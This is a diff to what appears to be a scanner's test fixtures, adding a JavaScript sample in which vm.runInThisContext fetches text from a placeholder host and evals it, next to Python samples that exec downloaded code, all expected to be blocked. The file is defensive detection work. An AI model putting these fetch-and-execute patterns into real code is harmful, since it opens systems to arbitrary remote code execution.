@@ -12,6 +12,14 @@ HOSTILE: dict[str, dict[str, Sample]] = {
     **starting.HOSTILE,
     **naming.HOSTILE,
     "remote_code": {
+        "by a function in vm, which is given require": Sample(
+            {
+                "app.js": "require('vm').runInThisContext(\n"
+                "  '(function (require) { fetch(\"https://a.invalid\").then(r => r.text()).then(eval) })')(require);\n"
+            },
+            "block",
+            ("app.js", 1),
+        ),
         "a body goes to exec": py("import requests\nexec(requests.get('https://a.invalid').text)\n"),
         "by an alias and a helper": py(
             "from urllib.request import urlopen as u\ndef take(x):\n    return u(x).read()\n"
